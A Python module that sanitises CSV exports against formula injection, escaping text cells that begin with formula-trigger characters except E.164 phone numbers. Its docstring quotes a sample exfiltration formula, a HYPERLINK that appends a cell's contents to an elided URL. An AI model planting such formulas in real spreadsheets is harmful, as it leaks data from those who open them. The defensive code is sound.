"""CSV that cannot attack the person who opens it: partners' fields end up in the files staff
open in a spreadsheet, and a cell a spreadsheet would run as a formula
(`=HYPERLINK("http://…"&A1,"click")`) is written as inert text instead.

As OWASP's CSV-injection advice says: a text cell that begins with `=`, `+`, `-`, `@`, a tab or
a carriage return gets a leading `'`, which spreadsheets take as "this is text" (they show the
rest). The one exception is a phone number in E.164 (`+` and digits only, as rollcall stores
every mobile): a spreadsheet can only read it as a number, nothing in it can run, and a quote
would spoil the number for whoever copies it out. Numbers (not text) are written as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

_RUNNABLE = ("=", "+", "-", "@", "\t", "\r")
_E164 = re.compile(r"\+[0-9]{1,15}")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def inert(value: Any) -> Any:
    """The cell as a spreadsheet may read it without running anything."""
    if isinstance(value, str) and value.startswith(_RUNNABLE) and not _E164.fullmatch(value):
        return "'" + value
    return value


class Writer:
    """`csv.writer` whose every text cell is `inert`."""

    def __init__(self, buffer: _Writable) -> None:
        self._writer = csv.writer(buffer)

    def writerow(self, row: Iterable[Any]) -> None:
        self.writerows((row,))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Every cell `inert`, the rule written out in the loop: an export has millions of cells,
        and a call per cell cost a third of writing them (docs/benchmarks.md, "posts CSV")."""
        runnable, e164 = _RUNNABLE, _E164.fullmatch
        self._writer.writerows(
            [
                "'" + value if isinstance(value, str) and value.startswith(runnable) and not e164(value) else value
                for value in row
            ]
            for row in rows
        )
